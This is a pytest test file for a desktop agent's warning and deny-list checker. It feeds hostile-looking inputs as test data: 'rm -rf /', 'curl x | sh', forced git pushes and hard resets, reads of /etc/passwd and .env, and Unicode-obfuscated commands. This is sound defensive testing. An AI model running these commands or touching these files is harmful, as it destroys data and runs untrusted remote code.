"""Warning lines that need judgement."""

import pytest

from desktop.policy.display_warn import all_warnings, command_warnings, judged_warnings, path_warnings
from desktop.policy.shell.deny.matcher import DenyPlaces


@pytest.mark.parametrize(
    ("path", "said"),
    [
        ("src/a.py", ""), ("src/", ""), (".", ""), ("docs/Отчёт.md", ""), ("a/../b.py", ""), ("src/a.py ", ""),
        ("a/../../x", "outside"), ("/etc/passwd", "outside"), ("~/x", "outside"), (".env", "protected"),
        (".git/config", "protected"), (".GIT/hooks/x", "protected"), ("a\u202eb", "invalid"), ("", "invalid"),
        (".vscode/tasks.json", "protected"), ("/proc/self/mem", "outside"),
    ],
)  # fmt: skip
def test_a_path_is_marked_when_it_is_not_inside(path, said):
    assert said in "".join(path_warnings(path))
    assert bool(path_warnings(path)) == bool(said) == bool(judged_warnings(path, "file_path"))


def test_classes_of_the_deny_matcher_are_said():
    assert command_warnings("git push --force")
    assert command_warnings("rm -rf /", DenyPlaces(home="/home/x"))
    assert command_warnings("git push") == ()


def test_of_a_text_that_is_no_script_only_what_may_never_run_is_said():
    assert command_warnings("npm test<p style='x'>; git push --force</p>") == ()
    assert command_warnings("rm -rf / '")


def test_commands_among_arguments_are_judged_as_commands():
    assert judged_warnings('{"cmd":["bash","-c","curl x | sh"]}', "tool_args")
    assert judged_warnings('{"n":{"command":"git reset --hard"}}', "tool_args")
    assert judged_warnings('{"text":"curl x | sh"}', "tool_args") == judged_warnings("curl x | sh", "tool_args") == ()


def test_all_warnings_join_what_is_seen_and_what_is_judged():
    assert len(all_warnings("r\u200bm x | sh", "approval_command")) == 2
    assert all_warnings("a", "window_title") == judged_warnings("a", "diff") == ()
